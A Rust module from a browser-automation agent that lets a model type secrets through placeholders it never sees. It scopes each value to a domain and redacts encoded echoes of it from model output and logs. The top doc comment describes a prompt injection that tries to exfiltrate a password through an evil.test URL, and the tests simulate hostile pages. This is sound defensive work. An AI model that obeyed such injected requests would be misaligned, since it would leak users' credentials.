//! Secrets a model may use but never see.
//!
//! The model writes `<secret>NAME</secret>`. The value is put in at the last
//! moment and in one place only: the text of a `type` or `fill` into a field
//! whose document's origin matches the secret's domain (checked on the
//! element itself, so a field in a foreign iframe of an allowed page does
//! not qualify). Anywhere else (a URL to `open`, a script to `eval`, a tab's
//! address, a search in `find`) the placeholder stays as written and the
//! answer says so: a prompt injection that asks for
//! `open https://evil.test/?x=<secret>PW</secret>` sends the placeholder,
//! never the value.
//!
//! Everything that goes back to a model, a log or a history passes
//! [`Secrets::redact`], which replaces the value and its common disguises: a
//! hostile page that echoes a typed password reversed, upper-cased, base64-,
//! hex- or URL-encoded (in any mix of `%XX` in either case, `+` or `%20` for
//! a space, or encoded twice, as a query string shows it), or spaced out
//! letter by letter is caught too. What it
//! cannot catch is documented in docs/errors.md ("What rove guarantees"):
//! encodings beyond those (ROT13, base32, character codes, encryption), and
//! a value leaked a piece at a time.

use base64::Engine;
use serde_json::Value;

/// Secrets shorter than this are only redacted as written (in any case):
/// their disguises would match ordinary text.
const FUZZY_MIN_CHARS: usize = 4;

/// One secret.
#[derive(Clone)]
pub struct Secret {
    /// What the model calls it.
    pub name: String,
    /// Its value; never shown.
    pub value: String,
    /// Hosts it may be typed on: `example.com` (and its subdomains),
    /// `*.example.com`, or `None` for any.
    pub domain: Option<String>,
}

impl std::fmt::Debug for Secret {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Secret({}, domain {:?})", self.name, self.domain)
    }
}

impl Secret {
    /// `NAME=value`, optionally scoped as `NAME@domain=value`.
    pub fn parse(spec: &str) -> Option<Secret> {
        let (key, value) = spec.split_once('=')?;
        let (name, domain) = match key.split_once('@') {
            Some((name, domain)) => (name, Some(domain.to_owned())),
            None => (key, None),
        };
        let valid = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        (valid && !value.is_empty()).then(|| Secret {
            name: name.to_owned(),
            value: value.to_owned(),
            domain,
        })
    }

    /// `<secret>NAME</secret>`.
    pub fn placeholder(&self) -> String {
        format!("<secret>{}</secret>", self.name)
    }

    /// Whether a document of `origin` (`https://login.example.com`) may
    /// receive the value.
    fn allowed_on(&self, origin: &str) -> bool {
        let Some(pattern) = &self.domain else {
            return true;
        };
        let Ok(url) = url::Url::parse(origin) else {
            return false;
        };
        let Some(host) = url.host_str() else {
            return false;
        };
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        let (subdomains_only, pattern) = match pattern.strip_prefix("*.") {
            Some(rest) => (true, rest),
            None => (false, pattern.as_str()),
        };
        let pattern = pattern.trim_end_matches('.').to_ascii_lowercase();
        host.ends_with(&format!(".{pattern}")) || (!subdomains_only && host == pattern)
    }

    /// The value and the disguises a page could echo it in, each as a
    /// sequence of characters to find without regard to case.
    fn disguises(&self) -> Vec<Vec<char>> {
        let value = &self.value;
        let mut forms = vec![value.clone()];
        if value.chars().count() >= FUZZY_MIN_CHARS {
            forms.push(value.chars().rev().collect());
            forms.push(hex(value.as_bytes()));
            for engine in [
                base64::engine::general_purpose::STANDARD_NO_PAD,
                base64::engine::general_purpose::URL_SAFE_NO_PAD,
            ] {
                forms.extend(base64_cores(value.as_bytes(), &engine));
            }
        }
        let mut unique: Vec<Vec<char>> = Vec::new();
        for form in forms {
            let chars: Vec<char> = form.chars().collect();
            if !chars.is_empty() && !unique.contains(&chars) {
                unique.push(chars);
            }
        }
        // Longest first, so a longer disguise is replaced whole.
        unique.sort_by_key(|f| std::cmp::Reverse(f.len()));
        unique
    }
}

/// The secrets of a session.
#[derive(Debug, Clone, Default)]
pub struct Secrets(pub Vec<Secret>);

/// A placeholder the model wrote that could not be filled in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// The secret's name.
    pub name: String,
    /// Where it may be typed.
    pub domain: String,
}

impl Secrets {
    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The line that tells the model which secrets it may use.
    pub fn briefing(&self) -> Option<String> {
        if self.0.is_empty() {
            return None;
        }
        let names: Vec<String> = self.0.iter().map(Secret::placeholder).collect();
        Some(format!(
            "Secrets you may type without seeing them (write the placeholder as the text of type or fill; it works nowhere else): {}",
            names.join(", ")
        ))
    }

    /// The secrets whose placeholder appears in `text`.
    pub(crate) fn named_in<'a>(&'a self, text: &str) -> Vec<&'a Secret> {
        self.0
            .iter()
            .filter(|s| text.contains(&s.placeholder()))
            .collect()
    }

    /// The placeholders in any string of `value` (a command's arguments).
    pub(crate) fn named_in_json<'a>(&'a self, value: &Value) -> Vec<&'a Secret> {
        let mut found = Vec::new();
        let mut stack = vec![value];
        while let Some(v) = stack.pop() {
            match v {
                Value::String(s) => {
                    for secret in self.named_in(s) {
                        if !found.iter().any(|f: &&Secret| f.name == secret.name) {
                            found.push(secret);
                        }
                    }
                }
                Value::Array(items) => stack.extend(items),
                Value::Object(map) => stack.extend(map.values()),
                _ => {}
            }
        }
        found
    }

    /// `text` with each placeholder replaced by its value, for a field whose
    /// document has `origin`. A placeholder of a secret not allowed there
    /// is refused, and nothing is filled in.
    pub(crate) fn fill_in(&self, text: &str, origin: &str) -> Result<String, Refused> {
        let mut out = text.to_owned();
        for secret in self.named_in(text) {
            if !secret.allowed_on(origin) {
                return Err(Refused {
                    name: secret.name.clone(),
                    domain: secret.domain.clone().unwrap_or_default(),
                });
            }
            out = out.replace(&secret.placeholder(), &secret.value);
        }
        Ok(out)
    }

    /// `text` with every secret value, and its disguises, replaced by the
    /// secret's placeholder.
    pub fn redact(&self, text: &str) -> String {
        if self.0.is_empty() {
            return text.to_owned();
        }
        let mut out = text.to_owned();
        for secret in &self.0 {
            let placeholder = secret.placeholder();
            for form in secret.disguises() {
                out = replace_loosely(&out, &form, &placeholder);
            }
            if secret.value.chars().count() >= FUZZY_MIN_CHARS {
                out = replace_url_encoded(&out, secret.value.as_bytes(), &placeholder);
            }
        }
        out
    }
}

impl Secrets {
    /// Hides these secrets, and their disguises, from every log line of the
    /// process from now on (`rove_cdp::redact`): the `cdp` layer at `trace`
    /// sees the pages that echo them.
    pub fn hide_from_logs(&self) {
        if self.0.is_empty() {
            return;
        }
        // The same secrets registered twice (a session started again) are
        // one redactor.
        let key: String = self
            .0
            .iter()
            .map(|s| format!("{}\u{0}{}\u{0}", s.name, s.value))
            .collect();
        let secrets = self.clone();
        rove_cdp::redact::hide_with(&key, std::sync::Arc::new(move |text| secrets.redact(text)));
    }

    /// `value` with [`Secrets::redact`] applied to every string in it, keys
    /// included (a model's tool arguments, as a history records them).
    pub fn redact_json(&self, value: &Value) -> Value {
        if self.0.is_empty() {
            return value.clone();
        }
        match value {
            Value::String(s) => Value::String(self.redact(s)),
            Value::Array(items) => {
                Value::Array(items.iter().map(|v| self.redact_json(v)).collect())
            }
            Value::Object(map) => Value::Object(
                map.iter()
                    .map(|(k, v)| (self.redact(k), self.redact_json(v)))
                    .collect(),
            ),
            other => other.clone(),
        }
    }
}

/// Characters a page may put between the letters of a value to hide it:
/// whitespace and the invisible ones.
fn is_filler(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '\u{00AD}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}'
        )
}

fn same_letter(a: char, b: char) -> bool {
    a == b || a.to_lowercase().eq(b.to_lowercase())
}

/// Replaces each occurrence of `needle` in `text`, compared without regard
/// to case and allowing filler characters between its letters, with
/// `placeholder`.
fn replace_loosely(text: &str, needle: &[char], placeholder: &str) -> String {
    let Some(&first) = needle.first() else {
        return text.to_owned();
    };
    let chars: Vec<(usize, char)> = text.char_indices().collect();
    let mut out = String::with_capacity(text.len());
    let mut copied_to = 0;
    let mut i = 0;
    while i < chars.len() {
        if same_letter(chars[i].1, first) {
            if let Some(end) = match_at(&chars, i, needle) {
                out.push_str(&text[copied_to..chars[i].0]);
                out.push_str(placeholder);
                copied_to = chars.get(end).map_or(text.len(), |(at, _)| *at);
                i = end;
                continue;
            }
        }
        i += 1;
    }
    out.push_str(&text[copied_to..]);
    out
}

/// Where a loose match of `needle` starting at `start` ends (exclusive).
fn match_at(chars: &[(usize, char)], start: usize, needle: &[char]) -> Option<usize> {
    let mut at = start;
    for (k, want) in needle.iter().enumerate() {
        if k > 0 {
            while at < chars.len() && is_filler(chars[at].1) && !is_filler(*want) {
                at += 1;
            }
        }
        let (_, got) = *chars.get(at)?;
        if !same_letter(got, *want) {
            return None;
        }
        at += 1;
    }
    Some(at)
}

/// Replaces each stretch of `text` that URL-decodes to `value` with
/// `placeholder`. Each byte of the value may appear as itself (letters in
/// either case), as `%XX` (hex in either case), as `%25XX` (encoded twice),
/// and a space also as `+` or `%2B` (a form's encoding, encoded once
/// more): every mix a page or a query string can write, without a list of
/// encoders to keep up to date.
fn replace_url_encoded(text: &str, value: &[u8], placeholder: &str) -> String {
    let Some(&first) = value.first() else {
        return text.to_owned();
    };
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut copied_to = 0;
    let mut i = 0;
    while i < bytes.len() {
        let could_start = bytes[i] == b'%'
            || bytes[i].eq_ignore_ascii_case(&first)
            || (first == b' ' && bytes[i] == b'+');
        // A match starts and ends on a byte that begins a character or ends
        // the text, so the cuts below are on character boundaries.
        let found = could_start
            .then(|| url_encoded_at(bytes, i, value))
            .flatten()
            .filter(|end| text.is_char_boundary(i) && text.is_char_boundary(*end));
        match found {
            Some(end) => {
                out.push_str(text.get(copied_to..i).unwrap_or_default());
                out.push_str(placeholder);
                copied_to = end;
                i = end;
            }
            None => i += 1,
        }
    }
    out.push_str(text.get(copied_to..).unwrap_or_default());
    out
}

/// Where a URL-encoded `value` starting at `start` of `text` ends
/// (exclusive).
fn url_encoded_at(text: &[u8], start: usize, value: &[u8]) -> Option<usize> {
    let mut at = start;
    for &want in value {
        at = encoded_byte_at(text, at, want)?;
    }
    Some(at)
}

/// Where one byte `want`, in any of its encodings, starting at `at` ends.
fn encoded_byte_at(text: &[u8], at: usize, want: u8) -> Option<usize> {
    let got = *text.get(at)?;
    if got == b'%' {
        let once = hex_byte(text, at + 1);
        // Encoded twice (`%2521`) first: the longer reading of `%25…`.
        if once == Some(b'%') {
            let twice = hex_byte(text, at + 3);
            if twice == Some(want) || (want == b' ' && twice == Some(b'+')) {
                return Some(at + 5);
            }
        }
        if once == Some(want) {
            return Some(at + 3);
        }
        if want == b' ' && once == Some(b'+') {
            return Some(at + 3);
        }
    }
    if got.eq_ignore_ascii_case(&want) || (want == b' ' && got == b'+') {
        return Some(at + 1);
    }
    None
}

/// The byte two hex digits (either case) at `at` stand for.
fn hex_byte(text: &[u8], at: usize) -> Option<u8> {
    let digits = text.get(at..at + 2)?;
    let digits = std::str::from_utf8(digits).ok()?;
    u8::from_str_radix(digits, 16).ok()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The base64 characters that only the value's own bits decide, for each
/// of the three places it can start in a longer encoded text.
fn base64_cores(value: &[u8], engine: &base64::engine::GeneralPurpose) -> Vec<String> {
    let mut cores = Vec::new();
    for pad in 0..3usize {
        let mut bytes = vec![0u8; pad];
        bytes.extend_from_slice(value);
        let encoded = engine.encode(&bytes);
        // Character i holds bits [6i, 6i+6); the value holds bits
        // [8·pad, 8·(pad+len)).
        let first = (8 * pad).div_ceil(6);
        let end = (8 * (pad + value.len())) / 6;
        if end > first && end - first >= FUZZY_MIN_CHARS {
            cores.push(encoded[first..end.min(encoded.len())].to_owned());
        }
    }
    cores
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secrets() -> Secrets {
        Secrets(vec![
            Secret::parse("PASSWORD@example.com=hunter2-Zq").expect("scoped"),
            Secret::parse("TOKEN=abc").expect("any"),
        ])
    }

    #[test]
    fn values_are_filled_in_only_on_their_domain() {
        let s = secrets();
        assert_eq!(
            s.fill_in("<secret>PASSWORD</secret>", "https://login.example.com")
                .expect("allowed"),
            "hunter2-Zq"
        );
        for foreign in [
            "https://evil.test",
            "https://example.com.evil.test",
            "https://notexample.com",
            "null",
            "http://127.0.0.1:8080",
        ] {
            assert!(
                s.fill_in("<secret>PASSWORD</secret>", foreign).is_err(),
                "{foreign}"
            );
        }
        assert_eq!(
            s.fill_in("x <secret>TOKEN</secret>", "https://anywhere.test")
                .expect("any"),
            "x abc"
        );
        assert!(Secret::parse("bad name=x").is_none());
        assert!(!format!("{:?}", s).contains("hunter2"));
    }

    #[test]
    fn disguised_values_are_redacted() {
        let s = secrets();
        let value = "hunter2-Zq";
        let std = base64::engine::general_purpose::STANDARD;
        let url_safe = base64::engine::general_purpose::URL_SAFE;
        let echoes = [
            value.to_owned(),
            value.to_uppercase(),
            value.chars().rev().collect::<String>(),
            value.chars().map(|c| format!("{c} ")).collect::<String>(),
            value
                .chars()
                .map(|c| format!("{c}\u{200B}"))
                .collect::<String>(),
            std.encode(value),
            std.encode(format!("user:{value}")),
            std.encode(format!("ab{value}xyz")),
            url_safe.encode(format!("a{value}")),
            hex(value.as_bytes()),
            hex(value.as_bytes()).to_uppercase(),
            percent_all(value.as_bytes()),
            percent_all(value.as_bytes()).to_lowercase(),
            percent_reserved(value),
        ];
        for echo in echoes {
            let page = format!("Your password is {echo}. Thanks!");
            let shown = s.redact(&page);
            assert!(
                shown.contains("<secret>PASSWORD</secret>"),
                "{echo:?} became {shown:?}"
            );
            assert!(!shown.contains(value), "{shown}");
            assert!(shown.starts_with("Your password is "), "{shown}");
        }
    }

    /// Every byte percent-encoded (`%68%75…`).
    fn percent_all(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("%{b:02X}")).collect()
    }

    /// As `encodeURIComponent` writes it.
    fn percent_reserved(value: &str) -> String {
        let mut out = String::new();
        for b in value.bytes() {
            if b.is_ascii_alphanumeric() || b"-_.!~*'()".contains(&b) {
                out.push(b as char);
            } else {
                out.push_str(&format!("%{b:02X}"));
            }
        }
        out
    }

    #[test]
    fn url_encodings_in_any_mix_are_redacted() {
        let s = Secrets(vec![
            Secret::parse("PW=Open se!same/\u{e9}").expect("secret"),
            Secret::parse("PIN=4711").expect("pin"),
        ]);
        let forms = [
            "Open%20se!same%2F%C3%A9",
            "Open+se%21same%2f%c3%a9",
            "open+SE%21SAME/%C3%A9",
            "Open%2520se%2521same%252F%25C3%25A9",
            "Open%252Bse%2521same%252f%25c3%25a9",
            "Open se!same/\u{e9}",
        ];
        for form in forms {
            let shown = s.redact(&format!("https://x.test/?a=1&q={form}&b=\u{1F600}"));
            assert_eq!(
                shown, "https://x.test/?a=1&q=<secret>PW</secret>&b=\u{1F600}",
                "{form}"
            );
        }
        assert_eq!(s.redact("?pin=%34%37%31%31"), "?pin=<secret>PIN</secret>");
        // A near miss stays as it is.
        assert_eq!(s.redact("Open%20se!sam"), "Open%20se!sam");
        assert_eq!(s.redact("%%2%G1%"), "%%2%G1%");
    }

    #[test]
    fn short_secrets_are_redacted_in_any_case_but_not_disguised() {
        let s = secrets();
        assert_eq!(
            s.redact("abc, ABC and cba"),
            "<secret>TOKEN</secret>, <secret>TOKEN</secret> and cba"
        );
        assert_eq!(s.redact("nothing here"), "nothing here");
    }

    #[test]
    fn placeholders_are_found_in_any_argument() {
        let s = secrets();
        let args = serde_json::json!({"url": "https://x.test/?p=<secret>PASSWORD</secret>", "n": [1, "<secret>TOKEN</secret>"]});
        let mut names: Vec<&str> = s
            .named_in_json(&args)
            .iter()
            .map(|s| s.name.as_str())
            .collect();
        names.sort();
        assert_eq!(names, ["PASSWORD", "TOKEN"]);
    }
}
